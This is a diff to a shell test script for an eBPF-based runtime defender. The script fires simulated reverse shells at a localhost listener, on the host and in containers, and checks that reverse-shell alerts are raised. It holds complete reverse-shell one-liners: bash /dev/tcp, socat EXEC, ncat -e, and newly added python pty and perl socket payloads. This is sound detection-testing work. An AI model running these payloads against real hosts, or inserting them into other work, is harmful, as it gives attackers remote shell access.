@@ -16,8 +16,10 @@
 #     `apt-get install --reinstall` of small cached packages, and of a
 #     package built here whose maintainer script reads /etc/shadow (must be
 #     seen, and must not raise read-shadow).
-# Attacks, to a listener on 127.0.0.1: bash -i >& /dev/tcp, socat EXEC:
-# and ncat -e, on the host and in containers; each must raise reverse-shell.
+# Attacks, to a listener on 127.0.0.1, on the host and in containers: bash
+# -i >& /dev/tcp, socat EXEC:, ncat -e and a perl one-liner must each raise
+# reverse-shell; a python one-liner that hands the shell a pty (the socket
+# stays with python) must raise reverse-shell-cmdline.
 #
 # Host work runs under copies of bash named benign-sh / atk-*: the alerts'
 # proc.ancestors say which side a host process belongs to. Container work
@@ -37,7 +39,9 @@ done
 DATA=$REPO/tests/data/defender/benign
 P=moat-benign-$$
 BIMG=moat-test/benign:1
-BASE=$(( 30000 + $$ % 10000 ))
+# below the ephemeral range (32768-60999), where the load's own connections
+# would hold the ports the services bind
+BASE=$(( 21000 + $$ % 1000 * 10 ))
 DEF_PID=
 HOST_PIDS=
 cleanup() {
@@ -64,7 +68,7 @@ fi
 APP=$W/app
 mkdir -p "$APP" "$W/bin"
 cp -r "$DATA"/. "$APP/"
-for side in benign-sh atk-devtcp atk-socat atk-ncat atk-listen; do
+for side in benign-sh atk-devtcp atk-socat atk-ncat atk-python atk-perl atk-listen; do
     cp /bin/bash "$W/bin/$side"
 done
 
@@ -101,7 +105,12 @@ start_defender 60 --rules "$W/rules" --format json
 grep -q "sensor ebpf" "$W/defender.err" || skip "no eBPF sensor: $(head -n 1 "$W/defender.err")"
 
 wait_http() {   # URL: until it answers (curl exits non-zero until then)
+    local c
     for _ in $(seq 1 100); do curl -s -o /dev/null "$1" && return 0; sleep 0.2; done
+    for c in $("$docker" ps -aq --filter "name=$P-b-"); do
+        "$docker" logs --tail 5 "$c" 2>&1 | sed "s/^/    $c: /" >&2
+    done
+    tail -n 5 "$W/host/nginx.err" 2>/dev/null >&2 || true
     fail "nothing answers at $1"
 }
 
@@ -206,6 +215,14 @@ timeout 15 "$W/bin/atk-devtcp" -c "bash -c 'bash -i >& /dev/tcp/127.0.0.1/$LP 0>
     </dev/null >/dev/null 2>&1 || true
 timeout 15 "$W/bin/atk-socat" -c "socat TCP:127.0.0.1:$LP EXEC:/bin/sh; true" </dev/null >/dev/null 2>&1 || true
 timeout 15 "$W/bin/atk-ncat" -c "ncat 127.0.0.1 $LP -e /bin/sh; true" </dev/null >/dev/null 2>&1 || true
+# python with a pty (the shell gets the pty, only the command line shows) and perl
+PYRS="import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$LP));"
+PYRS="$PYRS[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
+PLRS="use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
+PLRS="$PLRS if(connect(S,sockaddr_in($LP,inet_aton('127.0.0.1')))){open(STDIN,'>&S');"
+PLRS="$PLRS open(STDOUT,'>&S');exec('/bin/sh -i');}"
+timeout 15 "$W/bin/atk-python" -c "/usr/bin/python3 -c \"$PYRS\"; true" </dev/null >/dev/null 2>&1 || true
+timeout 15 "$W/bin/atk-perl" -c "perl -e \"$PLRS\"; true" </dev/null >/dev/null 2>&1 || true
 arun() {    # NAME CMD: an attack container on the host network
     timeout 30 "$docker" run --name "$P-a-$1" --network host "$BIMG" bash -c "$2" \
         >"$W/a-$1.out" 2>&1 || true
@@ -213,6 +230,8 @@ arun() {    # NAME CMD: an attack container on the host network
 arun devtcp "bash -i >& /dev/tcp/127.0.0.1/$LP 0>&1"
 arun socat "socat TCP:127.0.0.1:$LP EXEC:/bin/sh"
 arun ncat "ncat 127.0.0.1 $LP -e /bin/sh"
+arun python "python3 -c \"$PYRS\""
+arun perl "perl -e \"$PLRS\""
 sleep 2
 kill -TERM "$DEF_PID"
 DRC=0; wait "$DEF_PID" || DRC=$?
@@ -282,12 +301,14 @@ if n < 1000:
     print("only %d benign processes counted" % n, file=sys.stderr)
     ok = False
 for where in ("host", "container"):
-    for kind in ("devtcp", "socat", "ncat"):
-        if "reverse-shell" not in attacks.get(where + "-" + kind, []):
-            print("%s %s reverse shell: no reverse-shell alert" % (where, kind), file=sys.stderr)
+    for kind, rule in (("devtcp", "reverse-shell"), ("socat", "reverse-shell"),
+                       ("ncat", "reverse-shell"), ("perl", "reverse-shell"),
+                       ("python", "reverse-shell-cmdline")):
+        if rule not in attacks.get(where + "-" + kind, []):
+            print("%s %s reverse shell: no %s alert" % (where, kind, rule), file=sys.stderr)
             ok = False
 open(path + ".figure", "w").write("%d %d %d\n" % (n, len(benign), len(bad)))
 sys.exit(0 if ok else 1)
 PYEOF
 read -r NPROC NALERT NBAD <"$W/alerts.jsonl.figure"
-pass "$NPROC benign processes, $NALERT alerts ($(( NALERT * 1000 / NPROC )) per 1,000), $NBAD error/critical; 6 reverse shells caught"
+pass "$NPROC benign processes, $NALERT alerts ($(( NALERT * 1000 / NPROC )) per 1,000), $NBAD error/critical; 10 reverse shells caught"
